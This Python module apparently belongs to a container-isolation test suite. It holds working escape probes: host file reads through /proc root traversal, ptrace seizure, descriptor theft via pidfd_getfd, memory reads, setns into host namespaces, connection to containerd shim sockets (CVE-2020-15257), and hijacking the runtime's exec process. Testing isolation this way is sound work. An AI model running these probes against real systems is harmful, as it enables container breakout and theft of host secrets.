"""Through /proc, ptrace and the like into processes that are not the container's."""

import ctypes
import os
import socket
import time

import kernel
from program import change
from run import Failed

PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17


def _pids():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def _attempt(found, what, action):
    try:
        result = action()
    except OSError:
        return
    if result is not None:
        found.add(f"{what}: {result}")


def reach_outside(secret_path, pids=()):
    """Read a file of the host through root or cwd of these processes, or of any that can be seen."""
    found = set()
    for pid in pids or _pids():
        for way in ("root", "cwd"):
            _attempt(found, f"/proc/{pid}/{way}", lambda pid=pid, way=way: kernel.read_some(
                f"/proc/{pid}/{way}/../../../../../../{secret_path}"))  # fmt: skip
    if not found:
        raise Failed(f"{len(_pids())} processes seen, and none of them leads out")
    return found


def take_over(pid):
    """Read memory, environment, descriptors and program of process `pid`, or stop it by ptrace(2)."""
    found = set()
    _grab(found, pid)
    if not found:
        raise Failed(f"process {pid} cannot be touched")
    return found


def _grab(found, pid):
    _attempt(found, "environment", lambda: len(kernel.read_some(f"/proc/{pid}/environ")) or None)
    _attempt(found, "memory map", lambda: len(kernel.read_some(f"/proc/{pid}/maps")) or None)
    _attempt(found, "memory", lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)) or "writable")
    _attempt(found, "descriptors", lambda: [os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd")])
    _attempt(found, "directory", lambda: os.readlink(f"/proc/{pid}/cwd"))
    _attempt(found, "root", lambda: os.readlink(f"/proc/{pid}/root"))
    _attempt(found, "a descriptor", lambda: _steal_descriptor(pid))
    _attempt(found, "read", lambda: _read_memory(pid))
    _attempt(found, "traced", lambda: _trace(pid))


def _trace(pid):
    kernel.call("ptrace", PTRACE_SEIZE, pid, 0, 0)
    return "it can be stopped at will"


def _steal_descriptor(pid):
    pidfd = kernel.call("pidfd_open", pid, 0)
    try:
        return os.readlink(f"/proc/self/fd/{kernel.call('pidfd_getfd', pidfd, 0, 0)}")
    finally:
        os.close(pidfd)


def _read_memory(pid):
    """process_vm_readv(2) at an address that any process has something at, or fails there with EFAULT."""
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_size_t * 2)(0, 8)
    try:
        kernel.call("process_vm_readv", pid, local, 1, remote, 1, 0)
    except OSError as error:
        if error.errno != 14:  # EFAULT: permitted, and nothing is mapped at 0
            raise
    return "permitted"


def watch(image_programs, title="", seconds=30.0):
    """Wait for the runtime's own process, as it joins the container for an exec, and take hold of it.

    That process is an interpreter of the host until its execve. Whatever is not a program of the image is it; or,
    with the host's processes in sight, what has the title. The file /stop ends the watch.
    """
    own = [os.stat(path) for path in image_programs]
    found, seen = set(), set()
    print("READY", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end and not found and not os.path.exists("/stop"):
        for pid in _pids():
            if pid == os.getpid() or not _is_called(pid, title):
                continue
            seen.add(pid)
            try:
                fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
            except OSError:
                continue
            if not any(os.path.samestat(os.fstat(fd), stat) for stat in own):
                found.add("its program was opened")
                _attempt(found, "its program", lambda fd=fd: _changed(fd))
                _grab(found, pid)
            os.close(fd)
    if not found:
        raise Failed(f"{len(seen)} processes came by, and could not be touched")
    return found


def _is_called(pid, title):
    """Whether the process goes by that title; who may be read that by anybody."""
    try:
        return not title or kernel.read_some(f"/proc/{pid}/cmdline").decode(errors="replace").startswith(title)
    except OSError:
        return False


def _changed(fd):
    try:
        return change(fd)
    except Failed:
        return None


def signal_outside(pids):
    """Send the harmless signal 0 to processes of the host by the pids that they have there."""
    for pid in pids:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            continue
        return f"process {pid} can be signalled"
    raise Failed("none of them is there")


def enter_namespaces(secret_path):
    """Enter the mount namespace of any process that can be seen, and read a file of the host there."""
    own, errors = os.readlink("/proc/self/ns/mnt"), []
    for pid in _pids():
        try:
            if os.readlink(f"/proc/{pid}/ns/mnt") == own:
                continue
            fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
            kernel.call("setns", fd, kernel.CLONE_NEWNS)
            return kernel.read_some(secret_path)
        except OSError as error:
            errors.append(str(error))
    raise Failed(f"{len(errors)} processes, the last: {errors[-1:]}")


def abstract_sockets(pattern):
    """Connect to abstract unix sockets whose name has `pattern` in it, as a shim's may be (CVE-2020-15257)."""
    with open("/proc/net/unix") as file:
        names = {fields[7] for fields in map(str.split, file) if len(fields) > 7 and fields[7].startswith("@")}
    for name in sorted(found for found in names if pattern in found):
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            with socket.socket(socket.AF_UNIX, kind) as sock:
                try:
                    sock.connect("\0" + name[1:])
                except OSError:
                    continue
                return f"connected to {name}"
    raise Failed(f"{len(names)} abstract sockets, none to connect to")
